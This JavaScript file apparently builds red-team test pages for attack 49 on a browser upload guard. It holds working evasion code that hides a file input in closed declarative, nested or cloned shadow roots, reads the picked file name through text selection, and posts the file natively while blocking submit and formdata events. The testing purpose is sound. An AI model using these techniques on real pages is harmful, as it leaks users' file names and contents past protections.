// Hostile pages for the forty-ninth attack on the upload guard: the survey of
// wrapped insertions (insertions.js survey/insertGuarded, file-barrier.js
// withholdInserted). Chromium's own picker is opened as in attack 44-48's
// labeldeep (a span deep inside a DETACHED label holding a file input i,
// clicked in the person's click on "#open"); the page then gets i connected,
// and drawn, some way the survey does not see, and reads the name Chromium
// draws (attack 48's findsel). A name learnt goes up as a text note "leak-….txt".
// Served by server.mjs at /attack49-…; tests: attack49.test.mjs.

import { leakNote as leak, attackPages, browsersOwnPick, pickerWaysPage } from './uploads.mjs';


/** attack 48's findsel on whatever is connected now: window.find('.jpg'), the selection stretched over its line, read back. */
const findsel = (why) => `const hit = window.find('.jpg'); const sel = getSelection(); note('find .jpg ' + hit);
        try { sel.modify('move', 'backward', 'lineboundary'); sel.modify('extend', 'forward', 'lineboundary'); } catch (e) { note('modify threw ' + e.name); }
        const got = String(sel); note('${why} ' + JSON.stringify(got));
        if (got.length > 1) leak(got, '${why}');`;

/**
 * The label, i and the deep span made by the PARSER inside a CLOSED DECLARATIVE shadow root (setHTMLUnsafe's
 * `<template shadowrootmode="${mode}">`) of a detached host h: no attachShadow, so the survey does not know the root
 * (insertions.js closedRoots holds only attachShadow's). The page reaches into the root through an inline onerror
 * handler of an <img> the parser put there too (`this.parentNode` is the closed ShadowRoot). After the pick, h is
 * connected by a wrapped call (document.body.append(h)): the survey looks at h, its open root (none) and the closed
 * roots attachShadow made (none), finds no file input, and i is connected with the original in it.
 */
const dsdPick = (onChange, hostCss = '', mode = 'closed', form = false) => `
      ${leak}
      const h = document.createElement('div'); h.style.cssText = ${JSON.stringify(hostCss)};
      window.got49 = (img) => {
        const r = img.parentNode; const i = r.querySelector('input'); const all = r.querySelectorAll('span'); const t = all[all.length - 1];
        note('dsd root ' + (r instanceof ShadowRoot) + ' ' + (r.mode || '') + ' host.shadowRoot ' + h.firstElementChild.shadowRoot + ' spans ' + all.length);
        i.addEventListener('change', () => { note('change'); try { ${onChange} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
        window.t49 = t; window.b49 = r.querySelector('button');
      };
      h.setHTMLUnsafe('<div><template shadowrootmode="${mode}">${form ? '<form method="post" enctype="multipart/form-data" action="/upload">' : ''}<label><input type="file" name="photo">' + '<span>'.repeat(70) + 'x' + '</span>'.repeat(70) + '</label>${form ? '<button type="submit">go</button></form>' : ''}<img src="/nope49.png" onerror="window.got49(this)"></template></div>');
      document.getElementById('open').addEventListener('click', () => { try { window.t49.click(); } catch (e) { note('click threw ' + e.name); } });`;


/**
 * dsdPick's root made another way the survey does not know: attachShadow({ mode: 'closed', clonable: true }) on a
 * host (that root IS remembered), its markup (label, i, deep span, <img onerror>) set, then the host cloned: the
 * clone's closed root is made by the browser (cloneNode), not attachShadow. The clone's own <img> hands its root over.
 */
const clonePick = (onChange, hostCss = '') => `
      ${leak}
      const h = document.createElement('div'); h.style.cssText = ${JSON.stringify(hostCss)};
      const o = document.createElement('div'); const or = o.attachShadow({ mode: 'closed', clonable: true });
      window.got49 = (img) => {
        const r = img.parentNode; if (r === or) return;
        const i = r.querySelector('input'); const all = r.querySelectorAll('span'); const t = all[all.length - 1];
        note('clone root ' + (r instanceof ShadowRoot) + ' spans ' + all.length);
        i.addEventListener('change', () => { note('change'); try { ${onChange} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
        window.t49 = t;
      };
      or.innerHTML = '<label><input type="file" name="photo">' + '<span>'.repeat(70) + 'x' + '</span>'.repeat(70) + '</label><img src="/nope49.png" onerror="window.got49(this)">';
      h.append(o.cloneNode(true));
      document.getElementById('open').addEventListener('click', () => { try { window.t49.click(); } catch (e) { note('click threw ' + e.name); } });`;

/**
 * dsdPick with the closed declarative root NESTED in another (outer host, closed root, inner host, closed root:
 * label, i, deep span, <img onerror>), both made by the parser. After the pick the page takes the INNER host out of
 * the outer root (`r.host`: a closed root still names its host) and connects it alone: the isolated world tells the
 * page world of the inner root only as the outermost host (retargeted), so the inner host is not itself known.
 */
const nestedPick = (onChange, hostCss = '') => `
      ${leak}
      const h = document.createElement('div');
      window.got49 = (img) => {
        const r = img.parentNode; const i = r.querySelector('input'); const all = r.querySelectorAll('span'); const t = all[all.length - 1];
        window.ih49 = r.host; r.host.style.cssText = ${JSON.stringify(hostCss)};
        note('nested root ' + (r instanceof ShadowRoot) + ' ' + r.mode + ' inner host in a root ' + (r.host.getRootNode() instanceof ShadowRoot));
        i.addEventListener('change', () => { note('change'); try { ${onChange} } catch (e) { note('threw ' + e.name + ' ' + e.message); } });
        window.t49 = t;
      };
      h.setHTMLUnsafe('<div><template shadowrootmode="closed"><div><template shadowrootmode="closed"><label><input type="file" name="photo">' + '<span>'.repeat(70) + 'x' + '</span>'.repeat(70) + '</label><img src="/nope49.png" onerror="window.got49(this)"></template></div></template></div>');
      document.getElementById('open').addEventListener('click', () => { try { window.t49.click(); } catch (e) { note('click threw ' + e.name); } });`;

const HTML_WAYS = {
  // The nested closed roots above: the inner host taken out of the outer root and connected alone, findsel.
  dsdnested: nestedPick(`document.body.append(window.ih49); ${findsel('dsdnested')}`, 'width:600px'),
  // The same, the outer host connected whole.
  dsdnestedouter: nestedPick(`document.body.append(h); ${findsel('dsdnestedouter')}`, 'width:600px'),
  // The closed declarative root above; h connected (in sight) after the pick, the name read with findsel.
  dsdclosed: dsdPick(`document.body.append(h); ${findsel('dsdclosed')}`, 'width:600px'),
  // The same out of sight (attack 48's findquiet: fixed, 1px high, opacity 0.01), h removed after.
  dsdquiet: dsdPick(`document.body.append(h); ${findsel('dsdquiet')} h.remove();`, 'opacity:0.01;height:1px;overflow:hidden;position:fixed;bottom:0;left:0;width:600px'),
  // The bytes: the label and i in a multipart form in the closed declarative root, posted natively once h is connected.
  dsdpost: dsdPick(`document.body.append(h); note('post ' + i.isConnected); window.b49.click();`, 'width:600px', 'closed', true),
  // The same with the submit event stopped in the root (at the form, capture) before it could reach a listener above.
  dsdpoststop: dsdPick(`document.body.append(h); const f = window.b49.form; f.addEventListener('submit', (e) => e.stopImmediatePropagation(), true); f.addEventListener('formdata', (e) => e.stopImmediatePropagation(), true); window.b49.click();`, 'width:600px', 'closed', true),
  // attack 48's findsel for reference (deep pick, replaceChildren: the survey holds i back).
  findsel: browsersOwnPick(`document.body.replaceChildren(i); i.style.width = '600px'; ${findsel('findsel')}`, { before: leak }),
  // The root a clone of a clonable closed host gets (clonePick); h connected after the pick, findsel.
  dsdclone: clonePick(`document.body.append(h); ${findsel('dsdclone')}`, 'width:600px'),
  // dsdclosed with an OPEN declarative root (the survey reads open roots from the host): for reference.
  dsdopen: dsdPick(`document.body.append(h); ${findsel('dsdopen')}`, 'width:600px', 'open'),
};
const { names: PICKER_WAYS, page: picker } = pickerWaysPage(HTML_WAYS);
export { PICKER_WAYS };
export const attack49Page = attackPages(49, picker, {});
